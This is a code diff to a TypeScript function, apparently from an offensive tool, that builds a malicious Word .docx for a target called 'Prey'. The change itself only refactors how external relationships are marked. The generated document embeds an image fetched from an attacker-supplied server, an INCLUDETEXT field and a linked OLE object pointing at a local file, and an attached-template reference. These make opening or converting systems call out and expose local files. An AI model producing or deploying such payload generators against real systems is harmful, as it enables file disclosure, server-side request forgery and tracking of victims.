@@ -10,8 +10,8 @@ const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationsh
 export function linkingWord({ file, server }: Prey): Promise<Buffer> {
   const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
   const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
-  const relationship = (id: string, kind: string, target: string, mode = 'External') =>
-    `<Relationship Id="${id}" Type="${OFFICE}/${kind}" Target="${target}" ${mode === 'External' ? 'TargetMode="External"' : ''}/>`
+  const relationship = (id: string, kind: string, target: string) =>
+    `<Relationship Id="${id}" Type="${OFFICE}/${kind}" Target="${target}" ${target.includes(':') ? 'TargetMode="External"' : ''}/>`
   const picture = `<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape style="width:100pt;height:100pt"><v:imagedata r:id="p" /></v:shape></w:pict></w:r></w:p>`
   const field = `<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;${new URL(file).pathname}&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`
   const object = `<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document" ShapeID="s" DrawAspect="Content" ObjectID="1" r:id="o"/></w:object></w:r></w:p>`
@@ -19,7 +19,7 @@ export function linkingWord({ file, server }: Prey): Promise<Buffer> {
     `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`
   return archive({
     '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
-    '_rels/.rels': relationships(relationship('d', 'officeDocument', 'word/document.xml', 'Internal')),
+    '_rels/.rels': relationships(relationship('d', 'officeDocument', 'word/document.xml')),
     'word/document.xml': `<w:document xmlns:w="${w}" xmlns:r="${OFFICE}"><w:body>${picture}${field}${object}</w:body></w:document>`,
     'word/settings.xml': `<w:settings xmlns:w="${w}" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="t"/></w:settings>`,
     'word/_rels/settings.xml.rels': relationships(
@@ -28,7 +28,7 @@ export function linkingWord({ file, server }: Prey): Promise<Buffer> {
     'word/_rels/document.xml.rels': relationships(
       relationship('p', 'image', `${server}/picture.png`),
       relationship('o', 'oleObject', file),
-      relationship('s', 'settings', 'settings.xml', 'Internal'),
+      relationship('s', 'settings', 'settings.xml'),
     ),
   })
 }
